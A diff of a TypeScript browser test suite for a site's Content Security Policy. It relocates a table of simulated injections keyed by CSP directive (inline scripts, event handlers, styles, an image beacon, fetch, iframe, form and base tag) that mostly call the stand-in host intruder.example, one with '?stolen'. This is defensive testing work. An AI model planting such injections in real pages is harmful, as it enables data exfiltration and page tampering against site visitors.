@@ -6,6 +6,54 @@ import { aVisitor } from '../../support/browser/visitor.ts'
 
 const PAGES = ['/', '/projects', '/projects/commander', '/authentication', '/nothing/here', '/%']
 
+/** What an attacker might inject into a page, by the directive of the policy that blocks it. */
+const INTRUSIONS = {
+  'script-src-elem': () => {
+    const script = document.createElement('script')
+    script.textContent = 'document.documentElement.dataset.intruded = ""'
+    document.body.append(script)
+  },
+  'script-src-attr': () => {
+    document.body.setAttribute('onclick', 'document.documentElement.dataset.intruded = ""')
+    document.body.click()
+  },
+  'style-src-elem': () => {
+    const style = document.createElement('style')
+    style.textContent = 'main { display: none }'
+    document.head.append(style)
+  },
+  'style-src-attr': () => document.body.setAttribute('style', 'display: none'),
+  'img-src': () => {
+    new Image().src = 'https://intruder.example/?stolen'
+  },
+  'connect-src': () => void fetch('https://intruder.example/').catch(() => undefined),
+  'frame-src': () => {
+    const frame = document.createElement('iframe')
+    frame.src = 'https://intruder.example/'
+    document.body.append(frame)
+  },
+  'form-action': () => {
+    const form = document.createElement('form')
+    form.action = 'https://intruder.example/'
+    document.body.append(form)
+    form.submit()
+  },
+  'base-uri': () => {
+    const base = document.createElement('base')
+    base.href = 'https://intruder.example/'
+    document.head.append(base)
+  },
+} as const
+
+/** Stores the last violated directive where the test can read it. */
+async function noteViolations(page: Page): Promise<void> {
+  await page.evaluate(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+      document.documentElement.dataset.violated = effectiveDirective
+    })
+  })
+}
+
 describe('content security policy', () => {
   for (const path of PAGES) {
     test(`leaves no inline styles and handlers at ${path}`, async () => {
@@ -57,51 +105,3 @@ describe('content security policy', () => {
     await leave(/Content Security Policy/)
   })
 })
-
-/** What an attacker might inject into a page, by the directive of the policy that blocks it. */
-const INTRUSIONS = {
-  'script-src-elem': () => {
-    const script = document.createElement('script')
-    script.textContent = 'document.documentElement.dataset.intruded = ""'
-    document.body.append(script)
-  },
-  'script-src-attr': () => {
-    document.body.setAttribute('onclick', 'document.documentElement.dataset.intruded = ""')
-    document.body.click()
-  },
-  'style-src-elem': () => {
-    const style = document.createElement('style')
-    style.textContent = 'main { display: none }'
-    document.head.append(style)
-  },
-  'style-src-attr': () => document.body.setAttribute('style', 'display: none'),
-  'img-src': () => {
-    new Image().src = 'https://intruder.example/?stolen'
-  },
-  'connect-src': () => void fetch('https://intruder.example/').catch(() => undefined),
-  'frame-src': () => {
-    const frame = document.createElement('iframe')
-    frame.src = 'https://intruder.example/'
-    document.body.append(frame)
-  },
-  'form-action': () => {
-    const form = document.createElement('form')
-    form.action = 'https://intruder.example/'
-    document.body.append(form)
-    form.submit()
-  },
-  'base-uri': () => {
-    const base = document.createElement('base')
-    base.href = 'https://intruder.example/'
-    document.head.append(base)
-  },
-} as const
-
-/** Stores the last violated directive where the test can read it. */
-async function noteViolations(page: Page): Promise<void> {
-  await page.evaluate(() => {
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
-      document.documentElement.dataset.violated = effectiveDirective
-    })
-  })
-}
